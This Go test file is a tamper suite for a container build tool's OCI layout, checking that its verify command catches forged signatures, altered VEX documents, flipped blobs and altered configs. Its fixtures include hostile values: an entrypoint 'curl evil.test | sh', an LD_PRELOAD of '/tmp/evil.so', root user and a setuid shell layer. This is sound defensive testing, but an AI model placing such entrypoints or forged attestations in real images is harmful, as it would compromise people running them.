package main

// Tamper suite: attacks on the OCI image layout hic build wrote (blobs,
// index.json entries, referrers), detected by hic verify.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"
	govex "github.com/openvex/go-vex/pkg/vex"

	"github.com/hic-build/hic/compiler/attest"
	"github.com/hic-build/hic/compiler/sign"
	"github.com/hic-build/hic/compiler/store"
	"github.com/hic-build/hic/compiler/vex"
)

func init() { tamperRegister("layout", tamperLayoutCases) }

func tamperLayoutCases() []tamperCase {
	verify := func(ref string) func(t *testing.T, e *tamperEnv) cliRun {
		return func(t *testing.T, e *tamperEnv) cliRun { return e.Verify(t, ref) }
	}
	return []tamperCase{
		{
			Name: "layout: tag moved to another spec's image",
			Attack: func(t *testing.T, e *tamperEnv) {
				alpine := e.Digest(tamperAlpine)
				var size int64
				tamperEditIndex(t, e, func(im *v1.IndexManifest) {
					for _, d := range im.Manifests {
						if d.Digest.String() == alpine {
							size = d.Size
						}
					}
					for i, d := range im.Manifests {
						if d.Annotations[store.AnnotationRefName] == "app:latest" {
							im.Manifests[i].Digest, im.Manifests[i].Size = tamperHash(t, alpine), size
						}
					}
				})
			},
			Detect:   verify("app:latest"),
			Want:     []string{"FAIL", "tag", "app:latest", tamperAlpine},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: one byte of an attestation envelope flipped",
			Attack: func(t *testing.T, e *tamperEnv) {
				r := tamperReferrer(t, e, tamperWolfi, attest.PredicateHardening)
				tamperFlipBlob(t, e, r.Envelope.Digest)
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "attestation-signatures", "referrer sha256:"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: image signatures dropped from index.json",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperEditIndex(t, e, func(im *v1.IndexManifest) {
					var kept []v1.Descriptor
					for _, d := range im.Manifests {
						if d.ArtifactType != attest.SignatureArtifactType {
							kept = append(kept, d)
						}
					}
					im.Manifests = kept
				})
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "image-signature", "no valid signature"},
			Tampered: []string{tamperWolfi, tamperAlpine},
		},
		{
			Name: "layout: another image's hardening attestation attached",
			Attack: func(t *testing.T, e *tamperEnv) {
				// The alpine image's hardening referrer, re-pointed at the
				// wolfi index: its signed statement is about the alpine image.
				r := tamperReferrer(t, e, tamperAlpine, attest.PredicateHardening)
				var m v1.Manifest
				tamperReadJSON(t, e, r.Manifest.Digest, &m)
				idx := tamperHash(t, e.Digest(tamperWolfi))
				m.Subject.Digest = idx
				m.Subject.Size = tamperBlobSize(t, e, idx)
				d := tamperWriteJSON(t, e, m)
				d.MediaType, d.ArtifactType = r.Manifest.MediaType, r.Manifest.ArtifactType
				d.Annotations = map[string]string{attest.AnnotationSubject: idx.String(), store.AnnotationSpecRef: tamperWolfi}
				tamperEditIndex(t, e, func(im *v1.IndexManifest) { im.Manifests = append(im.Manifests, d) })
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "attestation-subjects", "hardening statement attached to index"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: hardening attestation re-signed by another key",
			Attack: func(t *testing.T, e *tamperEnv) {
				r := tamperReferrer(t, e, tamperWolfi, attest.PredicateHardening)
				env, err := attest.ReadEnvelope(tamperLayout(e), r)
				if err != nil {
					t.Fatal(err)
				}
				dir := filepath.Join(e.Dir, "attacker")
				hicCLI(t, nil, "keygen", "--out", dir).must(t, 0)
				s, err := sign.LoadSigner(filepath.Join(dir, sign.PrivateKeyFile))
				if err != nil {
					t.Fatal(err)
				}
				forged := attResign(t, s, attPayload(t, env))
				tamperReplaceBlob(t, e, r.Envelope.Digest, forged, r.Manifest.Digest)
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "attestation-signatures"},
			Tampered: []string{tamperWolfi},
		},
		{
			// The catalog now says app is affected by a CVE; an insider with
			// the signing key forges the image's VEX document with hic's own
			// builder to say not_affected, and re-signs it.
			Name: "layout: VEX status flipped, re-signed with the build's key",
			Attack: func(t *testing.T, e *tamperEnv) {
				advisory := func(status string) string {
					return "package hic\n\nadvisories: app: [{\n\tid: \"CVE-2026-99999\"\n" + status + "\tpublished: \"" + tamperToday + "\"\n}]\n"
				}
				if err := os.MkdirAll(filepath.Join(e.Catalog, vex.Dir), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(e.Catalog, vex.Dir, "app.cue"), []byte(advisory("\tstatus: \"affected\"\n\taction: \"upgrade when 1.1.0 lands\"\n")), 0o644); err != nil {
					t.Fatal(err)
				}
				forgedCat := filepath.Join(e.Dir, "forged-catalog")
				if err := os.MkdirAll(filepath.Join(forgedCat, vex.Dir), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(forgedCat, vex.Dir, "app.cue"), []byte(advisory("\tstatus: \"not_affected\"\n\tjustification: \"vulnerable_code_not_present\"\n\timpact: \"the module is not built\"\n")), 0o644); err != nil {
					t.Fatal(err)
				}
				bldCopyDir(t, filepath.Join(e.Catalog, "cue.mod"), filepath.Join(forgedCat, "cue.mod"))
				adv, fs, err := vex.Load(t.Context(), forgedCat)
				if err != nil || len(fs) > 0 {
					t.Fatalf("forged advisories: %v %v", fs, err)
				}
				r := tamperReferrer(t, e, tamperWolfi, vex.PredicateType)
				env, err := attest.ReadEnvelope(tamperLayout(e), r)
				if err != nil {
					t.Fatal(err)
				}
				var st map[string]json.RawMessage
				if err := json.Unmarshal(attPayload(t, env), &st); err != nil {
					t.Fatal(err)
				}
				good, err := govex.Parse(st["predicate"])
				if err != nil {
					t.Fatal(err)
				}
				doc, err := vex.Document(adv, vex.Input{Repository: "app", Digest: e.Digest(tamperWolfi), Distro: "wolfi", Timestamp: *good.Timestamp,
					Platforms: []vex.Platform{{Platform: "linux/amd64", Packages: []vex.Package{{Name: "app", Version: "1.0.0-r0", Arch: "x86_64"}}}}})
				if err != nil {
					t.Fatal(err)
				}
				if st["predicate"], err = json.Marshal(doc); err != nil {
					t.Fatal(err)
				}
				payload, err := json.Marshal(st)
				if err != nil {
					t.Fatal(err)
				}
				s, err := sign.LoadSigner(e.Key)
				if err != nil {
					t.Fatal(err)
				}
				tamperReplaceBlob(t, e, r.Envelope.Digest, attResign(t, s, payload), r.Manifest.Digest)
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "vex", "app CVE-2026-99999: status: the catalog says affected, the signed VEX says not_affected"},
			Tampered: []string{tamperWolfi},
		},
		{
			// The image is built and attested with an advisory, which is
			// then edited in a field the OpenVEX statements do not carry
			// (updated): the signed VEX still says what the catalog says,
			// but the provenance's advisoriesDigest names advisories the
			// catalog no longer has.
			Name: "layout: image attested before an advisory changed, verified against the current catalog",
			Attack: func(t *testing.T, e *tamperEnv) {
				p := filepath.Join(e.Catalog, vex.Dir, "app.cue")
				write := func(extra string) {
					src := "package hic\n\nadvisories: app: [{\n\tid: \"CVE-2026-99999\"\n\tstatus: \"affected\"\n\taction: \"upgrade when 1.1.0 lands\"\n\tpublished: \"" + tamperToday + "\"\n" + extra + "}]\n"
					if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				write("")
				e.Build(t, tamperWolfi).must(t, 0)
				if r := e.Verify(t, tamperWolfi); r.Code != 0 {
					t.Fatalf("the image built with the advisory does not verify against its catalog: %s", r)
				}
				write("\tupdated: \"" + tamperToday + "\"\n")
			},
			Detect: verify(tamperWolfi),
			Want:   []string{"FAIL", "provenance-spec", "advisoriesDigest", "sha256:", "hic build"},
			Check: func(t *testing.T, e *tamperEnv, r cliRun) {
				if !regexp.MustCompile(`(?m)^ok +vex `).MatchString(r.Stdout) {
					t.Errorf("the signed VEX states what the catalog states: want ok vex, got %s", r)
				}
			},
			Tampered: []string{tamperWolfi},
		},
		{
			// The image's signed OpenVEX document of a build before an
			// advisory was added (it states nothing), left among the
			// referrers beside the complete one of the build after it, as
			// a republish to a registry that refuses deletes leaves it.
			Name: "layout: stale signed VEX document omitting a CVE, beside the complete one",
			Attack: func(t *testing.T, e *tamperEnv) {
				old := tamperReferrer(t, e, tamperWolfi, vex.PredicateType)
				var stale v1.Descriptor
				tamperEditIndex(t, e, func(im *v1.IndexManifest) {
					for _, d := range im.Manifests {
						if d.Digest == old.Manifest.Digest {
							stale = d
						}
					}
				})
				p := filepath.Join(e.Catalog, vex.Dir, "app.cue")
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				src := "package hic\n\nadvisories: app: [{\n\tid: \"CVE-2026-99999\"\n\tstatus: \"affected\"\n\taction: \"upgrade when 1.1.0 lands\"\n\tpublished: \"" + tamperToday + "\"\n}]\n"
				if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
					t.Fatal(err)
				}
				e.Build(t, tamperWolfi).must(t, 0)
				if r := e.Verify(t, tamperWolfi); r.Code != 0 {
					t.Fatalf("the image built with the advisory does not verify against its catalog: %s", r)
				}
				tamperEditIndex(t, e, func(im *v1.IndexManifest) { im.Manifests = append(im.Manifests, stale) })
				e.note = old.Manifest.Digest.String()
			},
			Detect: func(t *testing.T, e *tamperEnv) cliRun {
				r := e.Verify(t, tamperWolfi)
				if !strings.Contains(r.Stdout, "(referrer "+e.note+") does not state app CVE-2026-99999") {
					t.Errorf("verify does not name the stale document's referrer %s and the CVE it omits", e.note)
				}
				return r
			},
			Want:     []string{"FAIL", "vex", "document https://hic.dev/vex/", "app CVE-2026-99999", "hic publish withdraws", "the stale referrer must be deleted"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: one byte of a layer flipped",
			Attack: func(t *testing.T, e *tamperEnv) {
				_, m := tamperPlatform(t, e, tamperWolfi, "linux/amd64")
				tamperFlipBlob(t, e, m.Layers[len(m.Layers)-1].Digest)
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "blobs", "layer sha256:", "content has digest"},
			Skopeo:   "app:latest",
			Tampered: []string{tamperWolfi},
		},
		{
			// Debian's skopeo 1.9.3 copies this layout (it does not hash the
			// top index it reads from index.json): no Skopeo check here.
			Name: "layout: one byte of the image index flipped",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperFlipBlob(t, e, tamperHash(t, e.Digest(tamperWolfi)))
			},
			Detect:   verify("app:1"),
			Want:     []string{"app:1", "FAIL", "blobs", "index sha256:", "content has digest"},
			Tampered: []string{tamperWolfi},
		},
		{
			// Not JSON any more: the digest is checked before the index is
			// parsed, so the blobs check names the blob (review D1 §9).
			Name: "layout: the image index blob overwritten with bytes that do not parse",
			Attack: func(t *testing.T, e *tamperEnv) {
				if err := os.WriteFile(tamperBlobPath(e, tamperHash(t, e.Digest(tamperWolfi))), []byte("[1,2"), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			Detect:   verify("app:1"),
			Want:     []string{"app:1", "FAIL", "blobs", "index sha256:", "content has digest", "hic build " + tamperWolfi},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: a platform manifest's size misstated in the index",
			Attack: func(t *testing.T, e *tamperEnv) {
				// A manifest padded with a trailing space: same JSON, another
				// digest; the index is rewritten to name it with its old size.
				pd, _ := tamperPlatform(t, e, tamperWolfi, "linux/arm64")
				b, err := os.ReadFile(tamperBlobPath(e, pd.Digest))
				if err != nil {
					t.Fatal(err)
				}
				nd := tamperWriteBlob(t, e, append(b, ' '))
				tamperRewriteIndex(t, e, tamperWolfi, func(im *v1.IndexManifest) {
					for i, c := range im.Manifests {
						if c.Digest == pd.Digest {
							im.Manifests[i].Digest = nd.Digest // size left as it was
						}
					}
				})
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "blobs", "its descriptor says"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: config User set to 0 (digests rewritten up to index.json)",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperRewriteImage(t, e, tamperWolfi, "linux/amd64", func(img v1.Image) v1.Image {
					cf, err := img.ConfigFile()
					if err != nil {
						t.Fatal(err)
					}
					cfg := cf.Config
					cfg.User = "0"
					out, err := mutate.Config(img, cfg)
					if err != nil {
						t.Fatal(err)
					}
					return out
				})
			},
			Detect:   verify("app:latest"),
			Want:     []string{"FAIL", "config", `linux/amd64 config User is "0", the spec says "65532"`, "image-signature"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: config Env gains LD_PRELOAD, config blob edited in place",
			Attack: func(t *testing.T, e *tamperEnv) {
				_, m := tamperPlatform(t, e, tamperWolfi, "linux/amd64")
				var cf v1.ConfigFile
				tamperReadJSON(t, e, m.Config.Digest, &cf)
				cf.Config.Env = append(cf.Config.Env, "LD_PRELOAD=/tmp/evil.so")
				b, err := json.Marshal(cf)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(tamperBlobPath(e, m.Config.Digest), b, 0o644); err != nil {
					t.Fatal(err)
				}
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "blobs", "config " + "sha256:", "config Env", "LD_PRELOAD"},
			Skopeo:   "app:latest",
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: entrypoint swapped (digests rewritten up to index.json)",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperRewriteImage(t, e, tamperAlpine, "linux/arm64", func(img v1.Image) v1.Image {
					cf, err := img.ConfigFile()
					if err != nil {
						t.Fatal(err)
					}
					cfg := cf.Config
					cfg.Entrypoint = []string{"/bin/sh", "-c", "curl evil.test | sh"}
					out, err := mutate.Config(img, cfg)
					if err != nil {
						t.Fatal(err)
					}
					return out
				})
			},
			Detect:   verify(tamperAlpine),
			Want:     []string{"FAIL", "config", "linux/arm64 config Entrypoint is", "curl evil.test"},
			Tampered: []string{tamperAlpine},
		},
		{
			Name: "layout: setuid /bin/sh added in a layer (digests rewritten up to index.json)",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperRewriteImage(t, e, tamperWolfi, "linux/amd64", func(img v1.Image) v1.Image {
					l := tamperTarLayer(t, tar.Header{Name: "bin/sh", Mode: 0o4755, Typeflag: tar.TypeReg}, []byte("#!evil\n"))
					out, err := mutate.AppendLayers(img, l)
					if err != nil {
						t.Fatal(err)
					}
					return out
				})
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "filesystem", "fs-setuid", "/bin/sh is setuid"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: a referrer blob listed in index.json deleted",
			Attack: func(t *testing.T, e *tamperEnv) {
				// The findings referrer: hic verify read no attestation from it
				// before this check existed.
				d := tamperArtifact(t, e, tamperWolfi, "application/vnd.dev.hic.findings.v1+json")
				if err := os.Remove(tamperBlobPath(e, d.Digest)); err != nil {
					t.Fatal(err)
				}
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "blobs", "missing from the layout"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: the SPDX SBOM artifact's layer replaced",
			Attack: func(t *testing.T, e *tamperEnv) {
				d := tamperArtifact(t, e, tamperAlpine, "application/spdx+json")
				var m v1.Manifest
				tamperReadJSON(t, e, d.Digest, &m)
				if err := os.WriteFile(tamperBlobPath(e, m.Layers[0].Digest), []byte(`{"spdxVersion":"SPDX-2.3","packages":[]}`), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			Detect:   verify("app:1-alpine3.23"),
			Want:     []string{"FAIL", "blobs", "layer sha256:", "content has digest"},
			Tampered: []string{tamperAlpine},
		},
		{
			Name: "layout: CycloneDX attestations dropped",
			Attack: func(t *testing.T, e *tamperEnv) {
				var drop []v1.Hash
				_, plats := tamperIndex(t, e, tamperWolfi)
				for _, p := range plats {
					refs, err := attest.Referrers(t.Context(), tamperLayout(e), p.Digest, attest.PredicateCycloneDX)
					if err != nil || len(refs) == 0 {
						t.Fatalf("CycloneDX referrers of %s: %v %v", p.Digest, refs, err)
					}
					for _, r := range refs {
						drop = append(drop, r.Manifest.Digest)
					}
				}
				tamperEditIndex(t, e, func(im *v1.IndexManifest) {
					var kept []v1.Descriptor
					for _, d := range im.Manifests {
						if !slices.Contains(drop, d.Digest) {
							kept = append(kept, d)
						}
					}
					im.Manifests = kept
				})
			},
			Detect: verify(tamperWolfi),
			// One problem per cause across platforms (verify names them together).
			Want:     []string{"FAIL", "sbom", "linux/amd64, linux/arm64: no signed CycloneDX SBOM"},
			Tampered: []string{tamperWolfi},
		},
		{
			Name: "layout: image annotation changed (digests rewritten up to index.json)",
			Attack: func(t *testing.T, e *tamperEnv) {
				tamperRewriteImage(t, e, tamperWolfi, "linux/arm64", func(img v1.Image) v1.Image {
					return mutate.Annotations(img, map[string]string{"org.opencontainers.image.licenses": "LicenseRef-proprietary"}).(v1.Image)
				})
			},
			Detect:   verify(tamperWolfi),
			Want:     []string{"FAIL", "config", "linux/arm64: manifest annotation org.opencontainers.image.licenses is \"LicenseRef-proprietary\""},
			Tampered: []string{tamperWolfi},
		},
	}
}

// ---- layout helpers for attacks ----

func tamperLayout(e *tamperEnv) layout.Path { return layout.Path(e.OCI()) }

func tamperHash(t *testing.T, s string) v1.Hash {
	t.Helper()
	h, err := v1.NewHash(s)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func tamperBlobPath(e *tamperEnv, h v1.Hash) string {
	return filepath.Join(e.OCI(), "blobs", h.Algorithm, h.Hex)
}

func tamperBlobSize(t *testing.T, e *tamperEnv, h v1.Hash) int64 {
	t.Helper()
	fi, err := os.Stat(tamperBlobPath(e, h))
	if err != nil {
		t.Fatal(err)
	}
	return fi.Size()
}

// tamperFlipBlob flips one bit in the middle of a blob, in place.
func tamperFlipBlob(t *testing.T, e *tamperEnv, h v1.Hash) {
	t.Helper()
	tamperFlipFile(t, tamperBlobPath(e, h))
}

// tamperFlipFile flips one bit in the middle of the file at p, in place.
func tamperFlipFile(t *testing.T, p string) {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)/2] ^= 1
	// The file may be read-only (a layer is a hard link of the layer
	// cache's blob); the attacker owns it and may make it writable.
	if err := os.Chmod(p, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// tamperEditIndex rewrites the layout's index.json.
func tamperEditIndex(t *testing.T, e *tamperEnv, edit func(*v1.IndexManifest)) {
	t.Helper()
	p := filepath.Join(e.OCI(), "index.json")
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	var im v1.IndexManifest
	if err := json.Unmarshal(b, &im); err != nil {
		t.Fatal(err)
	}
	edit(&im)
	nb, err := json.MarshalIndent(im, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, nb, 0o644); err != nil {
		t.Fatal(err)
	}
}

func tamperReadJSON(t *testing.T, e *tamperEnv, h v1.Hash, v any) {
	t.Helper()
	b, err := os.ReadFile(tamperBlobPath(e, h))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, v); err != nil {
		t.Fatalf("blob %s: %v", h, err)
	}
}

// tamperWriteBlob stores b as a new, correctly named blob.
func tamperWriteBlob(t *testing.T, e *tamperEnv, b []byte) v1.Descriptor {
	t.Helper()
	h, n, err := v1.SHA256(strings.NewReader(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tamperBlobPath(e, h), b, 0o644); err != nil {
		t.Fatal(err)
	}
	return v1.Descriptor{Digest: h, Size: n}
}

func tamperWriteJSON(t *testing.T, e *tamperEnv, v any) v1.Descriptor {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return tamperWriteBlob(t, e, b)
}

// tamperReferrer returns the one referrer of predicateType attached to the
// index of spec in the good build.
func tamperReferrer(t *testing.T, e *tamperEnv, spec, predicateType string) attest.Referrer {
	t.Helper()
	refs, err := attest.Referrers(t.Context(), tamperLayout(e), tamperHash(t, e.Digest(spec)), predicateType)
	if err != nil || len(refs) != 1 {
		t.Fatalf("%s referrers of %s: %v %v", predicateType, spec, refs, err)
	}
	return refs[0]
}

// tamperReplaceBlob is the thorough attacker's rewrite: blob old (a layer of
// the referrer manifest man) is replaced by data under its own digest, the
// manifest is rewritten to name it, and index.json's entry follows.
func tamperReplaceBlob(t *testing.T, e *tamperEnv, old v1.Hash, data []byte, man v1.Hash) {
	t.Helper()
	nd := tamperWriteBlob(t, e, data)
	var m v1.Manifest
	tamperReadJSON(t, e, man, &m)
	for i, l := range m.Layers {
		if l.Digest == old {
			m.Layers[i].Digest, m.Layers[i].Size = nd.Digest, nd.Size
		}
	}
	md := tamperWriteJSON(t, e, m)
	tamperEditIndex(t, e, func(im *v1.IndexManifest) {
		for i, d := range im.Manifests {
			if d.Digest == man {
				im.Manifests[i].Digest, im.Manifests[i].Size = md.Digest, md.Size
			}
		}
	})
}

// tamperIndex returns the good index manifest of spec and its platform
// descriptors.
func tamperIndex(t *testing.T, e *tamperEnv, spec string) (v1.IndexManifest, []v1.Descriptor) {
	t.Helper()
	var im v1.IndexManifest
	tamperReadJSON(t, e, tamperHash(t, e.Digest(spec)), &im)
	var plats []v1.Descriptor
	for _, d := range im.Manifests {
		if d.Platform != nil {
			plats = append(plats, d)
		}
	}
	return im, plats
}

// tamperPlatform returns the descriptor and manifest of one platform of spec.
func tamperPlatform(t *testing.T, e *tamperEnv, spec, platform string) (v1.Descriptor, v1.Manifest) {
	t.Helper()
	_, plats := tamperIndex(t, e, spec)
	for _, d := range plats {
		if d.Platform.OS+"/"+d.Platform.Architecture == platform {
			var m v1.Manifest
			tamperReadJSON(t, e, d.Digest, &m)
			return d, m
		}
	}
	t.Fatalf("%s has no %s image", spec, platform)
	return v1.Descriptor{}, v1.Manifest{}
}

// tamperArtifact returns the index.json entry of spec's one artifact of
// artifactType whose subject is the index.
func tamperArtifact(t *testing.T, e *tamperEnv, spec, artifactType string) v1.Descriptor {
	t.Helper()
	var im v1.IndexManifest
	b, err := os.ReadFile(filepath.Join(e.OCI(), "index.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &im); err != nil {
		t.Fatal(err)
	}
	for _, d := range im.Manifests {
		if d.ArtifactType != artifactType || d.Annotations[store.AnnotationSpecRef] != spec {
			continue
		}
		var m v1.Manifest
		tamperReadJSON(t, e, d.Digest, &m)
		if m.Subject != nil && m.Subject.Digest.String() == e.Digest(spec) {
			return d
		}
	}
	t.Fatalf("%s has no %s artifact about its index", spec, artifactType)
	return v1.Descriptor{}
}

// tamperRewriteIndex is the thorough attacker's rewrite of spec's image
// index: edit it, store it under its new digest and point every index.json
// entry of the old index at it.
func tamperRewriteIndex(t *testing.T, e *tamperEnv, spec string, edit func(*v1.IndexManifest)) v1.Descriptor {
	t.Helper()
	old := tamperHash(t, e.Digest(spec))
	var im v1.IndexManifest
	tamperReadJSON(t, e, old, &im)
	edit(&im)
	nd := tamperWriteJSON(t, e, im)
	tamperEditIndex(t, e, func(top *v1.IndexManifest) {
		for i, d := range top.Manifests {
			if d.Digest == old {
				top.Manifests[i].Digest, top.Manifests[i].Size = nd.Digest, nd.Size
			}
		}
	})
	return nd
}

// tamperRewriteImage replaces one platform image of spec with edit's result,
// writing its blobs and rewriting the index and index.json to name it: every
// digest is consistent, only the signatures no longer match.
func tamperRewriteImage(t *testing.T, e *tamperEnv, spec, platform string, edit func(v1.Image) v1.Image) {
	t.Helper()
	pd, _ := tamperPlatform(t, e, spec, platform)
	ii, err := layout.ImageIndexFromPath(e.OCI())
	if err != nil {
		t.Fatal(err)
	}
	idx, err := ii.ImageIndex(tamperHash(t, e.Digest(spec)))
	if err != nil {
		t.Fatal(err)
	}
	img, err := idx.Image(pd.Digest)
	if err != nil {
		t.Fatal(err)
	}
	ni := edit(img)
	if err := tamperLayout(e).WriteBlob(tamperCfgName(t, ni), tamperReader(t, ni.RawConfigFile)); err != nil {
		t.Fatal(err)
	}
	ls, err := ni.Layers()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range ls {
		rc, err := l.Compressed()
		if err != nil {
			t.Fatal(err)
		}
		h, err := l.Digest()
		if err != nil {
			t.Fatal(err)
		}
		if err := tamperLayout(e).WriteBlob(h, rc); err != nil {
			t.Fatal(err)
		}
	}
	raw, err := ni.RawManifest()
	if err != nil {
		t.Fatal(err)
	}
	md := tamperWriteBlob(t, e, raw)
	tamperRewriteIndex(t, e, spec, func(im *v1.IndexManifest) {
		for i, c := range im.Manifests {
			if c.Digest == pd.Digest {
				im.Manifests[i].Digest, im.Manifests[i].Size = md.Digest, md.Size
			}
		}
	})
}

func tamperReader(t *testing.T, f func() ([]byte, error)) io.ReadCloser {
	t.Helper()
	b, err := f()
	if err != nil {
		t.Fatal(err)
	}
	return io.NopCloser(bytes.NewReader(b))
}

// tamperTarLayer is a gzipped OCI layer holding one file.
func tamperTarLayer(t *testing.T, h tar.Header, data []byte) v1.Layer {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	h.Size = int64(len(data))
	if err := tw.WriteHeader(&h); err != nil {
		t.Fatal(err)
	}
	if _, err := tw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }, tarball.WithMediaType(types.OCILayer))
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func tamperCfgName(t *testing.T, img v1.Image) v1.Hash {
	t.Helper()
	h, err := img.ConfigName()
	if err != nil {
		t.Fatal(err)
	}
	return h
}
